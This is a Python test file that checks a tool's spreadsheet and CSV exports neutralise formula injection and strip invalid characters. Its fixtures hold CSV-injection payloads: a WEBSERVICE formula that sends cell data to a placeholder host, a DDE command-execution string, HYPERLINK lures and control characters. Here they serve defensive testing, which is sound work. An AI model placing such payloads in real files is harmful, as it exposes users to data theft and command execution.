"""Issue 13, class "no live formula, no broken file": hostile text from every source (surveys,
toolkits, matrices, plans, KPIs, risks, user edits) through every xlsx and CSV writer of the
command line; each output is re-read: no formula cell anywhere, strict XML, text kept as text."""
from __future__ import annotations

import csv
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

import hostile_corpus as hc
from core.edits import apply_edit
from core.edits.model import Edit
from core.edits.build import update
from core.plans.model import Action, ImprovementPlan, Kpi, Measurement
from core.plans.store import save_plan
from core.project import Project
from core.reports.safe_cells import safe_csv_field, safe_text
from core.risk.store import save_risk
from safety_support import HOSTILE_TEXTS, hostile_toolkit, programme, run_cli, tree
from test_project_support import answers, write_survey

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _no_hang():
    with hc.no_hang(300):
        yield


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A programme where every source of text carries hostile text."""
    folder = tmp_path_factory.mktemp("hostile")
    kit = hostile_toolkit(folder / "toolkit.xlsx", '=WEBSERVICE("http://x/?"&B2)')
    ids = ["S1", "K_x0002_2", "=cmd|' /C calc'!A0", "S4"]
    names = {"S1": HOSTILE_TEXTS[0], "K_x0002_2": "bell_x0007_name", "S4": "-2+3"}
    path = programme(folder, ids, names, kit=kit)
    with Project.open(path, backups=False) as project:
        conn = project.conn
        company = conn.execute("SELECT id FROM companies ORDER BY id").fetchone()[0]
        if True:                                   # save_plan / save_risk run their own transactions
            save_plan(conn, ImprovementPlan(company, actions=[
                Action("A1", "=HYPERLINK(\"http://evil\",\"clic\")", owner="@SUM(A1)",
                       notes="ctl\x02\x1f\x0bx\r=cmd", due=date(2026, 5, 1))],
                kpis=[Kpi("K1", "+1+1 kpi", unit="%", notes="K_x0002_2",
                          measurements=[Measurement(date(2026, 4, 1), 3.0, source="=1+1")])]))
            from core.risk.register import Risk
            save_risk(conn, Risk(company, "R-001", "quality", 4, 5, "=WEBSERVICE(\"http://y\")\ufffe",
                                 cause="\t=1+1"))
        changes = update(conn, "companies", {"id": "S4"}, {"sector": "=1+2 sector\x03"})
        apply_edit(conn, Edit("edit.company_set", tuple(changes), "company", "S4"), "tester")
    return folder


def _no_formula_and_strict_xml(path: Path) -> list[str]:
    """Every text of an xlsx (after checking each part is strict XML with no formula cell)."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                root = etree.fromstring(zf.read(name))        # raises on U+FFFE, C0 controls
                if "worksheets/sheet" in name:
                    assert not root.findall(".//{*}f"), f"formula cell in {name}"
    texts = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_fields(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    for f in fields:
        assert not f.lstrip(" ").startswith(TRIGGERS) or f.startswith("'"), (path.name, f)
        assert "\ufffe" not in f and "\x00" not in f
    return fields


def test_results_workbook_keeps_every_hostile_text_as_text(hostile, tmp_path):
    code, _, err = run_cli("export", hostile / "p.encadena", "-o", tmp_path / "r.xlsx", data=tmp_path / "d")
    assert code == 0, err
    texts = _no_formula_and_strict_xml(tmp_path / "r.xlsx")
    joined = "\n".join(texts)
    for expected in ('=WEBSERVICE("http://x/?"&B2) band', '=WEBSERVICE("http://x/?"&B2) area',
                     HOSTILE_TEXTS[0], '=HYPERLINK("http://evil","clic")', "-2+3", "=cmd|' /C calc'!A0",
                     "=1+2 sector_x0003_", '=WEBSERVICE("http://y")'):
        assert expected in joined, expected
    assert "bell_x0007_name" in joined                 # a control character, escaped as Excel does


def test_results_csv_neutralises_formulas(hostile, tmp_path):
    code, _, err = run_cli("export", hostile / "p.encadena", "--csv", tmp_path / "csv", data=tmp_path / "d")
    assert code == 0, err
    fields = [f for p in sorted((tmp_path / "csv").glob("*.csv")) for f in _csv_fields(p)]
    assert "'" + HOSTILE_TEXTS[0] in fields and "'=cmd|' /C calc'!A0" in fields
    assert "'-2+3" in fields and any(f.startswith("'=HYPERLINK") for f in fields)


def test_followup_workbook_with_hostile_ids_and_notes_round_trips(hostile, tmp_path):
    out = tmp_path / "f.xlsx"
    code, _, err = run_cli("followup", "export", hostile / "p.encadena", "--chain", "Cadena A",
                           "-o", out, data=tmp_path / "d")
    assert code == 0, err
    texts = _no_formula_and_strict_xml(out)
    assert "K_x005F_x0002_2" in texts or "K_x0002_2" in texts        # the id, escaped for Excel
    copy = tmp_path / "copy.encadena"
    copy.write_bytes((hostile / "p.encadena").read_bytes())
    before = hc.database_dump(copy)
    code, _, err = run_cli("followup", "import", copy, out, data=tmp_path / "d")
    assert code == 0, err                                       # unchanged workbook: a no-op
    assert hc.database_dump(copy) == before


def test_template_of_a_hostile_toolkit(hostile, tmp_path):
    code, _, err = run_cli("template", "--toolkit", hostile / "toolkit.xlsx", "-o", tmp_path / "t.xlsx",
                           data=tmp_path / "d")
    assert code == 0, err
    texts = _no_formula_and_strict_xml(tmp_path / "t.xlsx")
    assert any(t.startswith('=WEBSERVICE("http://x/?"&B2)') for t in texts)


def test_matrix_workbook_with_hostile_labels(tmp_path):
    data = tmp_path / "d"
    code, _, _ = run_cli("risk", "matrix", "export", "5x5", tmp_path / "m.json", data=data)
    assert code == 0
    matrix = json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))
    matrix["labels"] = {"en": "=HYPERLINK(\"http://evil\")", "es": "@x\ufffe", "pt": "K_x0002_2"}
    (tmp_path / "evil.json").write_text(json.dumps(matrix), encoding="utf-8")
    code, _, err = run_cli("risk", "matrix", "export", tmp_path / "evil.json", tmp_path / "m.xlsx", data=data)
    assert code == 0, err
    assert '=HYPERLINK("http://evil")' in _no_formula_and_strict_xml(tmp_path / "m.xlsx")


def test_survey_text_from_a_csv_with_non_characters(tmp_path):
    kit = hostile_toolkit(tmp_path / "toolkit.xlsx", "+SUM(1)")
    rows = [answers("S1", name="a\ufffeb\uffffc"), answers("S2", name="=2*3")]
    survey = tmp_path / "s.csv"
    header = list(rows[0])
    with open(survey, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows([[r[h] for h in header] for r in rows])
    project = tmp_path / "p.encadena"
    with Project.create(project, "P", backups=False) as p:
        p.import_survey(survey, kit, assessed_on="2026-01-15", chain="C")
    code, _, err = run_cli("export", project, "-o", tmp_path / "r.xlsx", data=tmp_path / "d")
    assert code == 0, err
    texts = _no_formula_and_strict_xml(tmp_path / "r.xlsx")
    assert "abc" in texts and "=2*3" in texts and "+SUM(1) band" in texts


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_the_safe_text_functions(text):
    cell = safe_text(text)
    assert "\ufffe" not in cell and "\uffff" not in cell and len(cell) <= 32_767
    assert not any(ord(ch) < 32 and ch not in "\t\n" for ch in cell)
    field = safe_csv_field(text)
    assert not field.lstrip(" ").startswith(TRIGGERS) or field.startswith("'")
    assert safe_csv_field(3.5) == 3.5 and safe_csv_field(None) == "" and safe_csv_field(float("inf")) == ""


def test_no_file_is_left_beside_the_outputs(hostile, tmp_path):
    before = tree(hostile)
    out = tmp_path / "out"
    out.mkdir()
    run_cli("export", hostile / "p.encadena", "-o", out / "r.xlsx", data=tmp_path / "d")
    assert sorted(tree(out)) == ["r.xlsx"] and tree(hostile) == before
